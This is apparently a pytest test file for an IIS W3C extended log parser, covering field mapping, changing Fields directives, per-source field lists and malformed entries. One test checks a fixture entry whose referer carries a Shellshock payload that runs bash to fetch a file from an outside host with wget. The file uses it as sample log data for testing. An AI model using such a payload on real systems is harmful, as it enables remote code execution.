"""IIS W3C extended logs: the fixture (``fixtures/formats/iis``, written after the W3C spec and
real IIS logs' shapes), field lists that change within a file and per source, defaults."""

from __future__ import annotations

import calendar

import pytest

from lwsyslog.errors import FormatError
from lwsyslog.events import AccessEvent, ErrorEvent, Origin, Unparsed, UnparsedReason
from lwsyslog.formats import LineParser
from lwsyslog.formats.iis import DEFAULT_IIS_FIELDS, IisReader
from tests.unit.formats_fixtures import IIS, lines, parse_all

FIELDS_15 = "#Fields: " + " ".join(DEFAULT_IIS_FIELDS)
FIELDS_XFF = "#Fields: date time c-ip cs-method cs-uri-stem sc-status X-Forwarded-For"
ENTRY_15 = (
    "2026-12-05 08:00:01 10.0.2.10 GET /Default.aspx a=1 443 - 192.0.2.10 "
    "Mozilla/5.0+(Windows+NT+10.0) https://r.example/?q=a+b 200 0 0 31"
)


def _fixture() -> list[AccessEvent | ErrorEvent | Unparsed]:
    return parse_all(LineParser("access", ("iis",)), IIS)


def _entries() -> list[AccessEvent]:
    return [e for e in _fixture() if isinstance(e, AccessEvent)]


def test_every_entry_of_the_fixture_parses_and_directives_are_counted_as_such() -> None:
    events = _fixture()
    assert len(events) == len(lines(IIS))
    directives = [e for e in events if isinstance(e, Unparsed)]
    assert {e.reason for e in directives} == {UnparsedReason.DIRECTIVE}
    assert len(directives) == sum(1 for line in lines(IIS) if line.startswith("#"))


def test_default_layout_entry_maps_every_field() -> None:
    first = _entries()[0]
    assert first.client_ip == "192.0.2.10" and first.method == "GET"
    assert first.target == "/Default.aspx" and first.status == 200
    assert first.request_line == "GET /Default.aspx"
    assert first.user_agent.startswith("Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    assert first.time == calendar.timegm((2026, 12, 5, 8, 0, 1, 0, 0, 0))
    assert first.duration_us == 31_000
    assert first.extra == {"local_ip": "10.0.2.10", "server_port": "443", "substatus": "0",
                           "win32_status": "0"}  # fmt: skip


def test_query_joins_the_stem_and_username_keeps_its_domain() -> None:
    entries = _entries()
    css = next(e for e in entries if e.path == "/Content/site.css")
    assert css.target == "/Content/site.css?v=3" and css.referer.endswith("/Default.aspx")
    dashboard = next(e for e in entries if e.path == "/Dashboard.aspx")
    assert dashboard.user == "EXAMPLE\\jsmith"


def test_header_fields_get_their_spaces_back() -> None:
    shellshock = next(e for e in _entries() if e.client_ip == "203.0.113.26")
    assert shellshock.referer == "() { :; }; /bin/bash -c 'wget http://198.51.100.9/x'"


def test_a_new_fields_directive_changes_the_columns_mid_file() -> None:
    later = [e for e in _entries() if e.vhost == "www.example.net"]
    assert len(later) == 4
    first = later[0]
    assert first.protocol == "HTTP/1.1" and first.request_line.endswith(" HTTP/1.1")
    assert first.cookie == "ASP.NET_SessionId=abc123; theme=dark"
    assert first.bytes_sent == 5120 and first.extra["bytes_received"] == "612"
    assert first.extra["site"] == "W3SVC1" and first.extra["server"] == "WEB01"
    assert first.extra["header:x-forwarded-for"] == "192.0.2.44"
    assert later[1].extra["header:x-forwarded-for"] == "198.51.100.7, 10.0.0.6"


def test_ipv6_client() -> None:
    assert any(e.client_ip == "2001:db8::7" for e in _entries())


def test_field_lists_are_kept_per_source() -> None:
    reader = IisReader()
    web1, web2 = ("web1", "iis"), ("web2", "iis")
    assert reader.directive(FIELDS_XFF, web1)
    entry = "2026-12-05 08:00:01 192.0.2.1 GET /x 404 198.51.100.1"
    event = reader.parse(entry, Origin("web1/iis", 1), entry, web1)
    assert event is not None and event.status == 404 and event.target == "/x"
    assert reader.parse(entry, Origin("web2/iis", 1), entry, web2) is None  # web2: defaults
    default = reader.parse(ENTRY_15, Origin("web2/iis", 2), ENTRY_15, web2)
    assert default is not None and default.client_ip == "192.0.2.10"


def test_interleaved_sources_through_the_line_parser() -> None:
    """Two hosts' lines in one file (as rsyslog writes them): each host's #Fields applies to
    its own entries only."""
    parser = LineParser("access", ("iis",))
    name = "central.log"
    stream = [
        f"Dec  5 08:00:00 web1 iis-access: {FIELDS_XFF}",
        f"Dec  5 08:00:00 web2 iis-access: {FIELDS_15}",
        "Dec  5 08:00:01 web1 iis-access: 2026-12-05 08:00:01 192.0.2.1 GET /a 200 -",
        f"Dec  5 08:00:01 web2 iis-access: {ENTRY_15}",
    ]
    events = [parser.parse(text, Origin(name, n)) for n, text in enumerate(stream, 1)]
    assert [e.log for e in events] == ["unparsed", "unparsed", "access", "access"]
    web1, web2 = events[2], events[3]
    assert isinstance(web1, AccessEvent) and isinstance(web2, AccessEvent)
    assert (web1.origin.host, web1.target, web1.status) == ("web1", "/a", 200)
    assert (web2.origin.host, web2.client_ip) == ("web2", "192.0.2.10")


def test_the_number_of_remembered_sources_is_bounded() -> None:
    reader = IisReader(max_sources=2)
    for host in ("a", "b", "c"):
        reader.directive(FIELDS_XFF, (host, "iis"))
    assert not reader.knows(("a", "iis"))
    assert reader.knows(("b", "iis")) and reader.knows(("c", "iis"))


def test_configured_field_list_replaces_the_defaults() -> None:
    fields = [*DEFAULT_IIS_FIELDS, "X-Forwarded-For"]
    reader = IisReader(fields)
    entry = ENTRY_15 + " 198.51.100.3"
    event = reader.parse(entry, Origin("x", 1), entry, ("", "x"))
    assert event is not None and event.extra["header:x-forwarded-for"] == "198.51.100.3"
    assert reader.parse(ENTRY_15, Origin("x", 2), ENTRY_15, ("", "x")) is None
    with pytest.raises(FormatError, match="not a W3C field name"):
        IisReader(["date", "time", "c ip"])


@pytest.mark.parametrize(
    "entry",
    [
        ENTRY_15.replace("2026-12-05", "2026-13-45"),
        ENTRY_15.replace(" 200 ", " OK "),
        ENTRY_15.replace("192.0.2.10", "[192.0.2.10](http://192.0.2.10)"),
        ENTRY_15 + " extra",
        "2026-12-05 08:00:01 only four",
    ],
    ids=["bad-date", "bad-status", "mangled-client", "one-field-too-many", "short"],
)
def test_entries_that_do_not_have_their_fields_shape_are_refused(entry: str) -> None:
    assert IisReader().parse(entry, Origin("x", 1), entry, ("", "x")) is None


def test_an_invalid_fields_directive_leaves_the_defaults() -> None:
    reader = IisReader()
    assert reader.directive("#Fields: date time " + "x" * 100, ("", "x"))
    assert reader.parse(ENTRY_15, Origin("x", 1), ENTRY_15, ("", "x")) is not None
    assert not reader.directive("#not a directive", ("", "x"))
